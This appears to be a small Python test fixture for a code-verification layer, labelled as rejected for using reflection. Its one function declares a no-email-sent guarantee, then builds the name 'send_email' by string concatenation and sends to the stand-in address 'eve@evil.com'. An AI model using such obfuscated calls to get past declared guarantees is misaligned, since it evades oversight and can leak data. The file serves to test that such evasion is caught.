# rejected: reflection
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted import effects as fx


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    getattr(fx, "send" + "_email")("eve@evil.com", "x")
